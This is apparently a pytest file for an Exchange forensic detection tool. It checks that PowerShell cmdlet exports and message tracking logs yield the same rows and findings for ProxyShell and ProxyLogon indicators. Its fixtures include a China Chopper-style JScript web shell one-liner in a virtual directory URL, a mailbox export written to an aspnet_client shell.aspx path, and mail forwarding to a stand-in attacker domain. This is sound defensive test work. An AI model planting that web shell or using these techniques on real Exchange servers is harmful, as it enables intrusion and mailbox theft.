"""Cmdlet exports in every form give the same rows and findings (and the log form's, where one exists)."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from exhunt.detections.runner import run_checks
from tests.artifacts.psexport import FORMS, export
from tests.helpers import parse_bytes

T0 = datetime(2021, 8, 20, 10, 15, 30, tzinfo=UTC)
CHOPPER = ('http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["c"],"unsafe");}'
           "</script>")
NS = "Microsoft.Exchange"
# (type name, objects, kind, expected finding keys of the export alone)
EXPORTS: dict[str, tuple[str, list[dict[str, Any]], str, set[tuple[str, str]]]] = {
    "Get-InboxRule": (f"{NS}.Management.Common.InboxRule", [
        {"Name": "fwd", "Identity": "corp.example/Users/alice\\1", "MailboxOwnerId": "corp.example/Users/alice",
         "Enabled": True, "ForwardTo": ['"Mallory" [SMTP:mallory@evil.example]'], "ForwardAsAttachmentTo": None,
         "RedirectTo": None, "DeleteMessage": False, "MoveToFolder": None, "Priority": 1, "RuleIdentity": "1"},
        {"Name": "Invoices", "Identity": "corp.example/Users/bob\\2", "MailboxOwnerId": "corp.example/Users/bob",
         "Enabled": True, "ForwardTo": ['"Carol" [SMTP:carol@corp.example]'], "ForwardAsAttachmentTo": None,
         "RedirectTo": None, "DeleteMessage": False, "MoveToFolder": "bob:\\Finance", "Priority": 2,
         "RuleIdentity": "2"},
    ], "inbox_rule", {("mailflow.inbox_rule_forwarding", "corp.example/Users/alice -> mallory@evil.example")}),
    "Get-Mailbox": (f"{NS}.Data.Directory.Management.Mailbox", [
        {"Name": "alice", "PrimarySmtpAddress": "alice@corp.example", "UserPrincipalName": "alice@corp.example",
         "ForwardingAddress": None, "ForwardingSmtpAddress": "smtp:drop@evil.example",
         "DeliverToMailboxAndForward": True, "EmailAddresses": ["SMTP:alice@corp.example", "smtp:a@corp.example"]},
        {"Name": "bob", "PrimarySmtpAddress": "bob@corp.example", "UserPrincipalName": "bob@corp.example",
         "ForwardingAddress": None, "ForwardingSmtpAddress": None, "DeliverToMailboxAndForward": False,
         "EmailAddresses": ["SMTP:bob@corp.example"]},
    ], "mailbox", {("mailflow.mailbox_forwarding", "alice@corp.example -> drop@evil.example")}),
    "Get-MailboxExportRequest": (f"{NS}.Management.RecipientTasks.MailboxExportRequest", [
        {"Name": "MailboxExport", "Mailbox": "corp.example/Users/alice", "Status": "Completed",
         "FilePath": "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx", "BatchName": "",
         "RequestGuid": "0d2b8c5e-0000-4000-8000-000000000001", "WhenCreated": T0},
        {"Name": "Leaver", "Mailbox": "corp.example/Users/leaver", "Status": "Completed",
         "FilePath": "\\\\files01\\exports\\leaver.pst", "BatchName": "",
         "RequestGuid": "0d2b8c5e-0000-4000-8000-000000000002", "WhenCreated": T0},
    ], "mailbox_export_request", {
        ("proxyshell.mailbox_export_webshell", "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"),
        ("exchange_config.mailbox_export_request", "\\\\files01\\exports\\leaver.pst")}),
    "Get-MailboxPermission": (f"{NS}.Management.RecipientTasks.MailboxAcePresentationObject", [
        {"Identity": "corp.example/Users/ceo", "User": "CORP\\mallory", "AccessRights": "FullAccess",
         "IsInherited": False, "Deny": False, "InheritanceType": "All"},
        {"Identity": "corp.example/Users/ceo", "User": "NT AUTHORITY\\SELF",
         "AccessRights": "FullAccess, ReadPermission",
         "IsInherited": False, "Deny": False, "InheritanceType": "All"},
    ], "mailbox_permission", {("exchange_config.mailbox_permission", "CORP\\mallory")}),
    "Get-ADPermission": (f"{NS}.Management.RecipientTasks.ADAcePresentationObject", [
        {"Identity": "CN=ceo,OU=Users,DC=corp,DC=example", "User": "CORP\\mallory", "AccessRights": "ExtendedRight",
         "ExtendedRights": "Send-As", "IsInherited": False, "Deny": False, "Properties": ""},
    ], "ad_permission", {("exchange_config.mailbox_permission", "CORP\\mallory")}),
    "Get-ManagementRoleAssignment": (f"{NS}.Data.Directory.SystemConfiguration.ExchangeRoleAssignmentPresentation", [
        {"Name": "Mailbox Import Export-mallory", "Role": "Mailbox Import Export", "RoleAssigneeName": "mallory",
         "RoleAssigneeType": "User", "RoleAssignmentDelegationType": "Regular", "Enabled": True, "WhenCreated": T0},
        {"Name": "Mailbox Import Export-Organization Management-Delegating", "Role": "Mailbox Import Export",
         "RoleAssigneeName": "Organization Management", "RoleAssigneeType": "RoleGroup",
         "RoleAssignmentDelegationType": "DelegatingOrgWide", "Enabled": True, "WhenCreated": T0},
    ], "role_assignment", {("exchange_config.impersonation_role", "mallory: Mailbox Import Export")}),
    "Get-OabVirtualDirectory": (f"{NS}.Data.Directory.SystemConfiguration.ADOabVirtualDirectory", [
        {"Name": "OAB (Default Web Site)", "Server": "EXCH01", "InternalUrl": "https://exch01.corp.example/OAB",
         "ExternalUrl": CHOPPER, "MetabasePath": "IIS://exch01.corp.example/W3SVC/1/ROOT/OAB"},
    ], "virtual_directory", {("proxylogon.ecp.set_virtualdirectory_script", "Set-OabVirtualDirectory")}),
    "Get-AcceptedDomain": (f"{NS}.Data.Directory.SystemConfiguration.AcceptedDomain", [
        {"Name": "corp.example", "DomainName": "corp.example", "DomainType": "Authoritative", "Default": True},
    ], "accepted_domain", set()),
}


def findings_of(con: Any, org: tuple[str, ...] = ()) -> set[tuple[str, str, str]]:
    return {(f.check, f.key, f.confidence) for f in run_checks(con, org_domains=org)
            if f.check != "exposure.vulnerable_build"}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("cmdlet", list(EXPORTS))
def test_every_export_in_every_form(tmp_path: Path, cmdlet: str, form: str) -> None:
    type_name, objects, kind, keys = EXPORTS[cmdlet]
    con = parse_bytes(tmp_path, f"collected/{cmdlet}.out", export(objects, form, type_name))
    assert con.execute("SELECT artifact FROM files").fetchone() == ("cmdlet_export",)
    rows = con.execute("SELECT kind, source, record_id FROM events ORDER BY record_id").fetchall()
    assert rows == [(kind, "cmdlet_export", n) for n in range(1, len(objects) + 1)]
    messages = [m for (m,) in con.execute("SELECT message FROM warnings").fetchall()]
    dated = form.startswith("csv") and any(isinstance(v, datetime) for o in objects for v in o.values())
    assert messages == (["Export-Csv dates carry no zone and follow the collecting machine's culture: read as "
                         "en-US month/day in UTC (Export-Clixml keeps the zone)"] if dated else [])
    assert {(c, k) for c, k, _ in findings_of(con, ("corp.example",))} == keys


def test_forms_give_identical_rows(tmp_path: Path) -> None:
    """Every column but the export form, line and values only a form can write (booleans' case)."""
    seen = {}
    for form in FORMS:
        for cmdlet, (type_name, objects, _, _) in EXPORTS.items():
            con = parse_bytes(tmp_path / form / cmdlet, "export.x", export(objects, form, type_name))
            seen.setdefault(cmdlet, []).append(con.execute(
                "SELECT kind, ts, cmdlet, anchor_mailbox, \"user\", uri, uri_query, computer, message, "
                "target_filename, parameters FROM events ORDER BY record_id").fetchall())
    for cmdlet, per_form in seen.items():
        assert all(rows == per_form[0] for rows in per_form), cmdlet


def test_org_domains_from_accepted_domains_or_option(tmp_path: Path) -> None:
    """Without any domain known the inbox rule to carol@corp.example is outside too (medium); the
    accepted-domain export or --org-domain makes it inside."""
    type_name, objects, _, _ = EXPORTS["Get-InboxRule"]
    evidence = {"rules.csv": export(objects, "csv", type_name)}
    con = parse_bytes(tmp_path / "a", "rules.csv", evidence["rules.csv"])
    alone = findings_of(con)
    assert ("mailflow.inbox_rule_forwarding", "corp.example/Users/bob -> carol@corp.example", "medium") in alone
    assert {(f.key, f.confidence) for f in run_checks(con, org_domains=["corp.example"])
            if f.check == "mailflow.inbox_rule_forwarding"} == {
        ("corp.example/Users/alice -> mallory@evil.example", "high")}


TRACKING_LOG = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: Message Tracking Log\r\n"
    "#Date: 2021-08-20T10:15:30.000Z\r\n"
    "#Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,"
    "event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
    "recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,"
    "directionality,tenant-id,original-client-ip,original-server-ip,custom-data,transport-traffic-type,log-id,"
    "schema-version\r\n"
    "2021-08-20T10:15:30.123Z,10.0.0.5,EXCH01.corp.example,10.0.0.5,EXCH01,,,SMTP,SEND,42,<m1@corp.example>,"
    "1f2e,mallory@evil.example;bob@corp.example,250 2.0.0 OK,2048,2,,,Invoice,alice@corp.example,"
    "alice@corp.example,,Originating,,10.0.0.9,,,,,15.01.2176.002\r\n"
)
TRACKING_OBJECT = {
    "Timestamp": datetime(2021, 8, 20, 10, 15, 30, 123000, tzinfo=UTC), "ClientIp": "10.0.0.5",
    "ClientHostname": "EXCH01.corp.example", "ServerIp": "10.0.0.5", "ServerHostname": "EXCH01",
    "SourceContext": "", "ConnectorId": "", "Source": "SMTP", "EventId": "SEND", "InternalMessageId": 42,
    "MessageId": "<m1@corp.example>", "NetworkMessageId": "1f2e",
    "Recipients": ["mallory@evil.example", "bob@corp.example"], "RecipientStatus": ["250 2.0.0 OK"],
    "TotalBytes": 2048, "RecipientCount": 2, "RelatedRecipientAddress": "", "Reference": None,
    "MessageSubject": "Invoice", "Sender": "alice@corp.example", "ReturnPath": "alice@corp.example",
    "Directionality": "Originating", "OriginalClientIp": "10.0.0.9",
}
SAME = ("kind, source, ts, client_ip, server_ip, \"user\", computer, "
        "json_extract_string(fields, '$.\"event-id\"'), json_extract_string(fields, '$.\"recipient-address\"'), "
        "json_extract_string(fields, '$.\"message-subject\"'), json_extract_string(fields, '$.\"message-id\"')")


@pytest.mark.parametrize("form", FORMS)
def test_message_tracking_export_gives_the_log_rows(tmp_path: Path, form: str) -> None:
    log = parse_bytes(tmp_path / "log", "MSGTRK2021082010-1.LOG", TRACKING_LOG.encode())
    expected = log.execute(f"SELECT {SAME} FROM events").fetchall()
    assert expected and expected[0][0:2] == ("log", "message_tracking")
    obj = dict(TRACKING_OBJECT)
    if form.startswith("csv"):  # Export-Csv writes the en-US date without milliseconds: the rest is equal
        obj["Timestamp"] = obj["Timestamp"].replace(microsecond=0)
        expected = [(*expected[0][:2], expected[0][2].replace(microsecond=0), *expected[0][3:])]
    type_name = f"{NS}.Management.TransportLogSearchTasks.MessageTrackingEvent"
    con = parse_bytes(tmp_path / "x", "tracking.out", export([obj], form, type_name))
    assert con.execute(f"SELECT {SAME} FROM events").fetchall() == expected


EXSETUP = {"FileName": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\ExSetup.exe",
           "InternalName": "ExSetup.exe", "OriginalFilename": "ExSetup.exe",
           "FileVersion": "15.01.2176.002", "ProductVersion": "15.01.2176.002"}
SERVER = {"Name": "EXCH01", "Fqdn": "EXCH01.corp.example", "ServerRole": "Mailbox, ClientAccess",
          "AdminDisplayVersion": "Version 15.1 (Build 2176.2)", "Edition": "Standard"}


@pytest.mark.parametrize("form", ["csv", "csv7", "json", "json7"])
def test_build_sources_give_the_same_finding_as_the_log_header(tmp_path: Path, form: str) -> None:
    log = parse_bytes(tmp_path / "log", "MSGTRK2021082010-1.LOG", TRACKING_LOG.encode(), host="EXCH01")
    expected = [(f.check, f.severity, f.cves) for f in run_checks(log) if f.check == "exposure.vulnerable_build"]
    assert expected
    con = parse_bytes(tmp_path / form, "ExSetup.out", export([EXSETUP], form, "System.Diagnostics.FileVersionInfo"),
                      host="EXCH01")
    assert con.execute("SELECT value, confidence FROM host_facts").fetchall() == [("15.01.2176.002", "high")]
    found = [(f.check, f.severity, f.cves) for f in run_checks(con) if f.check == "exposure.vulnerable_build"]
    assert found == expected
    servers = [SERVER, {**SERVER, "Name": "EXCH02", "Fqdn": "EXCH02.corp.example",
                        "AdminDisplayVersion": "Version 15.2 (Build 986.5)"}]
    con = parse_bytes(tmp_path / (form + "s"), "servers.out", export(servers, form, f"{NS}.Data.Directory.Management."
                                                                               "ExchangeServer"), host="EXCH01")
    assert con.execute("SELECT value, confidence FROM host_facts").fetchall() == [("15.1.2176", "medium")]
    assert con.execute("SELECT count(*) FROM events WHERE kind = 'exchange_server'").fetchone() == (2,)


def test_real_virtual_directory_exports(tmp_path: Path) -> None:
    """HealthChecker's Export-Clixml of Get-OwaVirtualDirectory/Get-WebServicesVirtualDirectory (remote
    PowerShell, deserialized types): rows with their URLs, no warning, no finding."""
    from tests.conftest import shared_path
    from tests.helpers import parse_paths

    root = shared_path("css-exchange", "healthchecker-testdata")
    rels = sorted(str(p.relative_to(root)) for p in root.rglob("*VirtualDirectory.xml"))
    con = parse_paths(tmp_path, root, rels, host="solo-e19a")
    rows = con.execute("SELECT DISTINCT cmdlet, uri_query LIKE 'https://%' FROM events WHERE kind = 'virtual_directory'"
                       ).fetchall()
    assert sorted(rows) == [("Get-OwaVirtualDirectory", True), ("Get-WebServicesVirtualDirectory", True)]
    assert con.execute("SELECT count(*) FROM warnings").fetchone() == (0,)
    assert findings_of(con) == set()
    assert "SerializationData" not in con.execute("SELECT fields FROM events LIMIT 1").fetchone()[0]
